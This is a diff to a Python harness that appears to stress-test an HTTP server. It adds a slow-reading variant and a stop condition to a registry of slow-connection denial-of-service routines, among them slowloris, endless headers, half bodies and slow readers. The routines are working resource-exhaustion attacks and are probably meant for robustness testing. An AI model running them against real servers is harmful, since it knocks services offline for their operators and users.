@@ -94,6 +94,14 @@ def swallow(address, count):
     """Takes replies as fast as they come."""
     trickle(opened(address, count, GET), lambda s: len(s.recv(1 << 18)))
 
+def swallow_slowly(address, count):
+    """Takes replies in pieces, with a rest between them."""
+    buffer = bytearray(1 << 18)
+    def take(s):
+        time.sleep(0.0002)
+        return s.recv_into(buffer)
+    trickle(opened(address, count, GET), take)
+
 def slow_readers(address, count):
     """Takes replies at a few KB per second and connection."""
     connections = opened(address, count, GET)
@@ -105,11 +113,11 @@ def slow_readers(address, count):
                 pass
     hold(connections, tick=sip)
 
-def poured(connections, data, bound):
-    """Sends `data` again and again on every connection, up to `bound` bytes each, whatever is answered."""
+def poured(connections, data, bound, enough):
+    """Sends `data` again and again on every connection, up to `bound` bytes each, until it is `enough`."""
     say("held")
     left = {s: bound for s in connections}
-    while left and not released():
+    while left and not enough():
         for s in select.select([], list(left), [], 0.05)[1]:
             try:
                 left[s] -= s.send(data[(bound - left[s]) % len(data):])
@@ -149,13 +157,13 @@ def long_targets(address, count):
 
 def ask_oddly(address, count, request):
     connections = opened(address, count)
-    poured(connections, request, len(request))
+    poured(connections, request, len(request), lambda: False)
     statuses(connections)
 
 def endless_heads(address, count):
     """Heads that go on for ever, as fast as they are taken."""
     connections = opened(address, count, START)
-    poured(connections, b"X-Endless: " + b"e" * 50 + b"\r\n", 1 << 40)
+    poured(connections, b"X-Endless: " + b"e" * 50 + b"\r\n", 1 << 40, released)
     statuses(connections)
 
 def names(address, count):
@@ -270,7 +278,7 @@ def ask_all(address, count, after):
 ATTACKS = {
     attack.__name__: attack
     for attack in (
-        slowloris, half_bodies, idle, swallow, slow_readers, big_headers, many_headers, long_targets,
+        slowloris, half_bodies, idle, swallow, swallow_slowly, slow_readers, big_headers, many_headers, long_targets,
         endless_heads, names, wander, controls, crowd, queue,
     )
 }
